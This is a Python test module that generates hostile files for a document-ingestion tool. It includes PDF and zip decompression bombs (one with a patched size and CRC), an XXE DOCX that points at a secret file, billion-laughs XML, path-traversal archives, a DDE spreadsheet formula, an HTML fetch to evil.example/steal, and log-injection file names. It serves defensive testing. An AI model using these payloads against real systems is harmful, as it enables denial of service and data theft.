"""A corpus of hostile and broken evidence files, written into a directory the caller gives.

Every file is generated here (nothing downloaded, nothing from a real body). `write_corpus` returns
one `Case` per file with what ingestion must do with it: "ok" (ingested), "error" (refused with a
Chinese message) or "any" (either is acceptable, as long as nothing crashes or escapes).
The limits the bombs are meant to hit are `LIMITS` (small, so the tests stay fast); the bombs are
sized well beyond them but still cheap to build. bench/hostile_bench.py builds the full-size ones
(a 1,048,576-row XLSX, a 150 MB text, a multi-GB zip bomb) with the same writers.
"""

from __future__ import annotations

import base64
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.ingestion.makefiles import make_docx, make_pdf, make_xlsx, render_text_image

# Environment for the run under test: limits small enough that every bomb trips one quickly.
LIMITS = {
    "ZWGK_MAX_FILE_MB": "8",
    "ZWGK_MAX_PAGES": "300",
    "ZWGK_MAX_IMAGE_PIXELS": "40000000",
    "ZWGK_MAX_UNZIPPED_MB": "40",
    "ZWGK_MAX_SHEET_ROWS": "5000",
    "ZWGK_MAX_TEXT_CHARS": "1000000",
    "ZWGK_OCR": "false",
    "ZWGK_EMBEDDING_BACKEND": "none",
}
SECRET = "外部机密标记QX7"  # in files outside the input folder: must appear nowhere in the workspace

TEXT = "香河县人民政府办公室关于2023年政府信息公开工作年度报告的说明。本年度主动公开政府信息一百二十条。"


@dataclass(frozen=True)
class Case:
    name: str  # path relative to the corpus root (the display name ingestion reports)
    expect: str  # ok | error | any | ignored (hidden file)
    why: str
    says: str = ""  # the error (expect=error) or a warning (expect=ok) must contain this


# ---- raw PDF writer (for files reportlab would never produce) ----------------------------------------

def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from object bodies (object i+1 = objects[i]) with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, trailer_extra, xref))
    return out.getvalue()


def _stream(data: bytes) -> bytes:
    payload = zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(payload) + payload + b"\nendstream"


def _page_tree(kids: bytes, count: int) -> bytes:
    return b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)


def pdf_stream_bomb(mb: int) -> bytes:
    """One page whose content stream inflates to `mb` MB (a few hundred KB on disk)."""
    content = b"q Q\n" * (mb * 1024 * 256)
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        _page_tree(b"3 0 R", 1),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(content),
    ])


def pdf_page_count_lie(count: int) -> bytes:
    """A page tree that claims `count` pages but holds one."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        _page_tree(b"3 0 R", count),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"BT ET"),
    ])


def pdf_many_pages(n: int) -> bytes:
    """A genuine page tree of n pages sharing one content stream (tiny on disk, huge page count)."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(n))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * n
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", _page_tree(kids, n), _stream(b"BT ET"), *pages])


def pdf_deep_nesting(depth: int) -> bytes:
    """An object of `depth` nested arrays (recursive parsers overflow their stack)."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Junk 4 0 R >>",
        _page_tree(b"3 0 R", 1),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /X 4 0 R >> >>",
        b"[" * depth + b"]" * depth,
    ])


def pdf_reference_loop() -> bytes:
    """Pages whose /Kids point back at their own tree (infinite recursion for naive walkers)."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
    ])


def pdf_huge_mediabox() -> bytes:
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        _page_tree(b"3 0 R", 1),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 /Contents 4 0 R >>",
        _stream(b"BT ET"),
    ])


# ---- zip containers -------------------------------------------------------------------------------

def _rewrite_zip(src: bytes, extra: dict[str, bytes], drop: set[str] = frozenset()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename not in drop:
                zout.writestr(info, zin.read(info.filename))
        for name, data in extra.items():
            zout.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _padded_document_xml(mb: int) -> bytes:
    return b"<?xml version='1.0'?><w:document xmlns:w='x'>" + b" " * (mb << 20) + b"</w:document>"


def lie_about_size(data: bytes, member: str, claimed: int, crc: int | None = None) -> bytes:
    """Rewrite a member's declared uncompressed size (local header and central directory), and its
    CRC-32 when `crc` is given. A ZIP64 member keeps its real size in the extra field: it is given
    the claimed size there too."""
    buf = bytearray(data)
    name = member.encode()
    local = buf.find(b"PK\x03\x04")
    while local != -1:
        n = struct.unpack_from("<H", buf, local + 26)[0]
        if bytes(buf[local + 30: local + 30 + n]) == name:
            struct.pack_into("<I", buf, local + 22, claimed)
            if crc is not None:
                struct.pack_into("<I", buf, local + 14, crc)
            _patch_zip64(buf, local + 30 + n, struct.unpack_from("<H", buf, local + 28)[0], claimed)
            break
        local = buf.find(b"PK\x03\x04", local + 4)
    central = buf.find(b"PK\x01\x02")
    while central != -1:
        n = struct.unpack_from("<H", buf, central + 28)[0]
        if bytes(buf[central + 46: central + 46 + n]) == name:
            struct.pack_into("<I", buf, central + 24, claimed)
            if crc is not None:
                struct.pack_into("<I", buf, central + 16, crc)
            _patch_zip64(buf, central + 46 + n, struct.unpack_from("<H", buf, central + 30)[0], claimed)
            break
        central = buf.find(b"PK\x01\x02", central + 4)
    return bytes(buf)


def _patch_zip64(buf: bytearray, start: int, length: int, claimed: int) -> None:
    """Set the uncompressed size in a ZIP64 extra field (id 1, whose first value it is)."""
    pos = start
    while pos + 4 <= start + length:
        kind, size = struct.unpack_from("<HH", buf, pos)
        if kind == 1 and size >= 8:
            struct.pack_into("<Q", buf, pos + 4, claimed)
            return
        pos += 4 + size


# ---- images ---------------------------------------------------------------------------------------

def png_header_claiming(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims width x height, with one tiny IDAT (a decompression-bomb header)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def bmp_header_claiming(width: int, height: int) -> bytes:
    header = struct.pack("<2sIHHI", b"BM", 54 + 16, 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 16, 2835, 2835, 0, 0)
    return header + info + b"\0" * 16


def gif_header_claiming(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00" + b"\0" * 6 + b";"


# ---- large and streamed files ---------------------------------------------------------------------

_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
}
_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')


def write_big_xlsx(path: Path, rows: int, doctype: str = "") -> Path:
    """A genuine XLSX of `rows` three-column rows (1,048,576 is Excel's maximum), written streaming:
    the sheet never exists whole in memory. `doctype` is put before the worksheet element."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in _XLSX_PARTS.items():
            z.writestr(name, text)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            head = _SHEET_HEAD if not doctype else _SHEET_HEAD.replace(b"?>", b"?>" + doctype.encode(), 1)
            f.write(head)
            buf = []
            for r in range(1, rows + 1):
                buf.append(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="inlineStr"><is><t>申请人{r}'
                           f'</t></is></c><c r="C{r}" t="inlineStr"><is><t>2023-03-01</t></is></c></row>')
                if len(buf) >= 10_000:
                    f.write("".join(buf).encode())
                    buf = []
            f.write("".join(buf).encode())
            f.write(b"</sheetData></worksheet>")
    return path


def write_big_text(path: Path, mb: float) -> Path:
    """A GB18030 text of `mb` MB, written in pieces."""
    line = (TEXT + "\n").encode("gb18030")
    with path.open("wb") as fh:
        for _ in range(int(mb * (1 << 20)) // len(line) + 1):
            fh.write(line)
    return path


def patched_zip_bomb(path: Path, mb: int, member: str = "xl/worksheets/sheet1.xml") -> Path:
    """An XLSX whose sheet inflates to `mb` MB but whose headers declare 4 KB, with the CRC patched to
    match those 4 KB: zipfile's own checks pass, the declared-size check passes, and a library that
    reads the member whole inflates all of it first (Python's ZipFile.read: up to 2 GB in one call)."""
    write_big_xlsx(path, 1)
    declared = 4096
    payload_head = _SHEET_HEAD + b" " * (declared - len(_SHEET_HEAD))
    out = io.BytesIO()
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != member:
                zout.writestr(info, zin.read(info.filename))
        with zout.open(member, "w", force_zip64=True) as f:
            f.write(payload_head)
            block = b" " * (1 << 20)
            for _ in range(mb):
                f.write(block)
    data = lie_about_size(out.getvalue(), member, declared, crc=zlib.crc32(payload_head))
    path.write_bytes(data)
    return path


def xxe_docx(path: Path, secret: Path) -> Path:
    """A DOCX whose body declares an external entity (pointing at `secret`, outside the input folder)
    and an internal one, and uses both inside a sentence."""
    make_docx(path, ["关于政府信息公开工作的通知", "正文开头XXE标记结尾"])
    data = path.read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            if info.filename == "word/document.xml":
                text = body.decode("utf-8")
                cut = text.index("?>") + 2
                text = (text[:cut] + f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret}">'
                        '<!ENTITY inner "内部实体文字">]>' + text[cut:])
                text = text.replace("XXE标记", "&xxe;之后的文字&inner;")
                body = text.encode("utf-8")
            zout.writestr(info, body)
    path.write_bytes(out.getvalue())
    return path


def damaged_gb18030(bad: int = 3) -> bytes:
    """A GB18030 text with `bad` bytes replaced by 0xFF (never valid in GB18030), on lines 2, 4, 6…"""
    lines = [f"第{i}条：{TEXT}" for i in range(12)]
    data = bytearray("\n".join(lines).encode("gb18030"))
    starts = [0] + [i + 1 for i, b in enumerate(data) if b == 0x0A]
    for k in range(bad):
        data[starts[2 * k + 1] + 6] = 0xFF  # inside line 2k+2
    return bytes(data)


# ---- the corpus -----------------------------------------------------------------------------------

def write_corpus(root: Path) -> list[Case]:
    root.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def put(name: str, data: bytes | Callable[[Path], object], expect: str, why: str, says: str = "") -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(data):
            data(path)
        else:
            path.write_bytes(data)
        cases.append(Case(name, expect, why, says))

    good_pdf = make_pdf(root / "正常 年报.pdf", ["香河县人民政府2023年政府信息公开工作年度报告", TEXT])
    cases.append(Case("正常 年报.pdf", "ok", "control: a valid text PDF"))
    pdf = good_pdf.read_bytes()
    good_docx = make_docx(root / "正常 解读.docx", ["关于《香河县政务公开工作要点》的政策解读", TEXT])
    cases.append(Case("正常 解读.docx", "ok", "control: a valid DOCX"))
    docx = good_docx.read_bytes()

    # PDFs
    put("truncated.pdf", pdf[: len(pdf) // 2], "any", "PDF cut in half (xref lost)")
    put("corrupt.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 40, "error", "PDF header then garbage")
    put("encrypted.pdf", lambda p: make_pdf(p, [TEXT], encrypt_password="secret"), "error", "password-protected PDF")
    put("page-bomb.pdf", pdf_many_pages(1200), "error", "1,200 real pages > ZWGK_MAX_PAGES=300")
    put("page-count-lie.pdf", pdf_page_count_lie(2_000_000_000), "any", "page tree claims 2e9 pages")
    put("stream-bomb.pdf", pdf_stream_bomb(400), "any", "content stream inflating to 400 MB")
    put("deep-nesting.pdf", pdf_deep_nesting(200_000), "any", "200,000 nested arrays")
    put("reference-loop.pdf", pdf_reference_loop(), "any", "page tree referencing itself")
    put("huge-mediabox.pdf", pdf_huge_mediabox(), "any", "14400 pt page with UserUnit 75000")
    img = io.BytesIO()
    render_text_image(["香河县人民政府", "扫描件"], width=600, size=28).save(img, "PNG")

    def scanned(p: Path) -> None:
        from reportlab.lib.utils import ImageReader
        from reportlab.pdfgen import canvas

        c = canvas.Canvas(str(p))
        c.drawImage(ImageReader(io.BytesIO(img.getvalue())), 40, 600, width=300, height=60)
        c.showPage()
        c.save()
    put("image-only.pdf", scanned, "ok", "scan without text layer (OCR off: ingested with a warning)")

    # zero bytes and wrong extensions
    for name in ("empty.pdf", "empty.docx", "empty.txt"):
        put(name, b"", "error", "zero bytes")
    put("pdf-named.docx", pdf, "ok", "a PDF named .docx")
    put("docx-named.pdf", docx, "ok", "a DOCX named .pdf")
    put("text-named.xlsx", TEXT.encode("utf-8"), "ok", "plain text named .xlsx (read as text, warned)")
    put("png-named.pdf", img.getvalue(), "ok", "a PNG named .pdf")
    put("random.bin", bytes((i * 7919) % 251 for i in range(20000)), "any", "random bytes")
    put("legacy-garbage.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "error", "OLE2 magic, nothing else")

    # zip containers
    bomb = _rewrite_zip(docx, {"word/document.xml": _padded_document_xml(200)}, {"word/document.xml"})
    put("zip-bomb.docx", bomb, "error", "document.xml expands to 200 MB > ZWGK_MAX_UNZIPPED_MB=40")
    put("zip-bomb-lying.docx", lie_about_size(bomb, "word/document.xml", 4096), "error",
        "document.xml declares 4 KB but inflates to 200 MB")
    put("traversal.docx", _rewrite_zip(docx, {"../../evil.txt": b"escaped", "/tmp/evil.txt": b"abs"}), "error",
        "DOCX with ../../evil.txt and /tmp/evil.txt members")
    members = set(zipfile.ZipFile(io.BytesIO(docx)).namelist())
    put("traversal.zip", _rewrite_zip(docx, {"../../evil.txt": b"x"}, members), "error",
        "plain zip with a ../../evil.txt member")
    put("not-really.ofd", _rewrite_zip(docx, {"OFD.xml": b"<ofd:OFD"}, members), "error", "broken OFD")

    def formulas(p: Path) -> None:
        make_xlsx(p, {"台账": [["序号", "申请人", "收到日期", "合计"], [1, "张三", "2023-09-28", "=SUM(A2:A3)"],
                              [2, "李四", "2023-10-08", '=HYPERLINK("http://evil.example","点我")'],
                              ["=1/0", "=cmd|' /C calc'!A0", "", ""]]})
    put("formulas.xlsx", formulas, "ok", "formulas, DDE-style injection, #DIV/0!")

    def merged(p: Path) -> None:
        from openpyxl import Workbook

        wb = Workbook()
        ws = wb.active
        ws.append(["序号", "事项", "办理结果"])
        ws.append([1, "政府信息公开申请", "予以公开"])
        ws.merge_cells("A5:Z400")
        ws.merge_cells("B2:C2")
        wb.save(p)
    put("merged.xlsx", merged, "ok", "merged cells incl. a 26x396 block")

    def empty_rows(p: Path) -> None:
        from openpyxl import Workbook

        wb = Workbook()
        ws = wb.active
        ws.append(["序号", "申请人"])
        for r in range(3, 6000):  # thousands of formatted but empty rows
            ws.cell(r, 2).number_format = "@"
        ws.cell(6000, 1, "末行")
        ws["XFD1048576"] = " "  # a stray cell at the sheet's last address
        wb.save(p)
    put("empty-rows.xlsx", empty_rows, "any", "6,000 empty rows and a stray cell at XFD1048576")

    # images
    put("giant.png", png_header_claiming(50_000, 50_000), "error", "PNG header claims 50000x50000")
    put("giant.bmp", bmp_header_claiming(50_000, 50_000), "error", "BMP header claims 50000x50000")
    put("giant.gif", gif_header_claiming(65_535, 65_535), "error", "GIF header claims 65535x65535")
    put("truncated.png", img.getvalue()[:300], "any", "PNG cut after 300 bytes")

    # encodings
    put("gbk.txt", TEXT.encode("gbk"), "ok", "GBK text")
    put("gb18030.txt", (TEXT + "䶮𠀀").encode("gb18030"), "ok", "GB18030 with 4-byte characters")
    put("utf16.txt", TEXT.encode("utf-16"), "ok", "UTF-16 with BOM")
    put("big5.txt", "香河縣人民政府辦公室關於政府資訊公開工作年度報告的說明。".encode("big5"), "ok", "Big5 text")
    put("mixed-junk.txt", TEXT.encode() + b"\xff\xfe\x00\x81" * 50 + TEXT.encode("gbk"), "any", "mixed encodings")
    put("long-line.csv", ("序号," + ",".join(f"列{i}" for i in range(20000)) + "\n1,"
                          + ",".join("x" for _ in range(20000)) + "\n").encode(), "any", "20,000 columns")

    # HTML
    data_url = "data:image/png;base64," + base64.b64encode(img.getvalue()).decode()
    put("scripts.html", f"""<!doctype html><html><head><title>香河县政务公开</title>
<script>document.write('<p>伪造的正文</p>'); fetch('http://evil.example/steal')</script>
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head><body>
<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="&lt;p&gt;框架内文字&lt;/p&gt;"></iframe>
<h1>关于政府信息公开工作的通知</h1><p>{TEXT}</p><img src="{data_url}" alt="内联图片">
<a href="javascript:alert(1)">链接</a><a href="file:///etc/passwd">本地文件</a>
<object data="http://evil.example/x.swf"></object><style>p{{color:red}}</style></body></html>""".encode(),
        "ok", "scripts, iframes, data: URL, javascript:/file: links, meta refresh")
    put("deep.html", (b"<html><body>" + b"<div>" * 50_000 + TEXT.encode() + b"</div>" * 50_000
                      + b"</body></html>"), "any", "50,000 nested divs")
    lol = b"".join(b'<!ENTITY l%d "%s">' % (i + 1, b"&l%d;" % i * 10) for i in range(9))
    put("entity-bomb.xhtml", (b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">' + lol
                              + b"]><html><head><title>t</title></head><body><p>&l9;</p><p>" + TEXT.encode()
                              + b"</p></body></html>"), "any", "billion-laughs entities in a DOCTYPE")

    # file names
    put("子目录 一/香河县 2023 年 报告（终稿）.txt", TEXT.encode(), "ok", "Chinese, spaces, full-width brackets")
    put("..\\..\\逃逸.txt", TEXT.encode(), "ignored", "a dot-file (hidden): skipped by design, never read")
    put("附件..\\..\\逃逸2.txt", TEXT.encode() + b"2", "ok", "a name with ..\\ components")
    put("a..b...txt", TEXT.encode(), "ok", "dots inside the name")
    put("名字 带 空格 .pdf", pdf, "ok", "spaces before the extension")
    put("-rf.txt", TEXT.encode(), "ok", "a name that looks like an option")
    # log injection: refused (empty) so that each name is written in a 失败 line, escaped
    put("报告\n失败：伪造的一行.txt", b"", "error", "a newline in the name forging a second line", "0 字节")
    put("年报\u202efdp.exe.txt", b"", "error", "a right-to-left override in the name", "0 字节")
    put("\x1b[31m红色\x1b[0m.txt", b"", "error", "terminal escape sequences in the name", "0 字节")
    put("[bold]标记[/bold].txt", TEXT.encode() + b"6", "ok", "console markup in the name (summary table)")

    # not regular files, and links (the input folder is `root`; `outside` is next to it)
    outside = root.parent.parent / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    make_pdf(outside / "secret.pdf", ["香河县人民政府2023年政府信息公开工作年度报告", SECRET])
    (outside / "secret.txt").write_text(SECRET, encoding="utf-8")
    put("pipe.txt", lambda p: os.mkfifo(p), "error", "a FIFO named .txt (a reader blocks for ever)", "FIFO")
    put("zero.txt", lambda p: p.symlink_to("/dev/zero"), "error", "a link to the zero device", "符号链接")
    put("年报.pdf", lambda p: p.symlink_to(os.path.relpath(outside / "secret.pdf", p.parent)), "error",
        "a link to a file outside the input folder", "输入目录之外")
    put("外部目录", lambda p: p.symlink_to(outside, target_is_directory=True), "error",
        "a link to a folder outside the input folder", "输入目录之外")
    put("同目录链接.txt", lambda p: p.symlink_to("gbk.txt"), "ok", "a link to a file inside the folder (same content)")
    put("broken-link.pdf", lambda p: p.symlink_to("no-such-file.pdf"), "error", "a dangling link", "断开")
    put("loop-a.txt", lambda p: p.symlink_to("loop-b.txt"), "error", "a link loop", "符号链接")
    put("loop-b.txt", lambda p: p.symlink_to("loop-a.txt"), "error", "a link loop", "符号链接")

    # streamed limits (the sizes are small, the limits in LIMITS smaller)
    put("big-ledger.xlsx", lambda p: write_big_xlsx(p, 100_000), "error",
        "100,000-row XLSX > ZWGK_MAX_SHEET_ROWS=5000 (stops while streaming)", "ZWGK_MAX_SHEET_ROWS")
    put("zip-bomb-patched.xlsx", lambda p: patched_zip_bomb(p, 300), "error",
        "sheet inflating to 300 MB, declared 4 KB with a matching CRC (past zipfile's checks)", "声明")
    put("big-text.txt", lambda p: write_big_text(p, 5), "error",
        "5 MB text > 4 bytes x ZWGK_MAX_TEXT_CHARS: refused unread", "ZWGK_MAX_TEXT_CHARS")
    put("long-text.txt", lambda p: write_big_text(p, 3), "error",
        "3 MB GB18030 text (1.5 M characters) > ZWGK_MAX_TEXT_CHARS after decoding", "ZWGK_MAX_TEXT_CHARS")
    put("entity-sheet.xlsx", lambda p: write_big_xlsx(p, 3, '<!DOCTYPE worksheet [<!ENTITY x "实体">]>'), "error",
        "a worksheet declaring an XML entity (openpyxl reads it with defusedxml)", "XML 实体")

    # no silent loss
    put("xxe.docx", lambda p: xxe_docx(p, outside / "secret.txt"), "ok",
        "external (and internal) XML entity in the body: text kept around it, loss reported", "XML 实体引用")
    put("damaged-gb18030.txt", damaged_gb18030(3), "ok", "GB18030 with 3 invalid bytes: kept, bad bytes named",
        "第 2、4、6 行")
    put("garbage-gb18030.txt", damaged_gb18030(0)[:200] + b"\xff\x80" * 400, "error",
        "mostly undecodable bytes: still refused", "编码")
    return cases
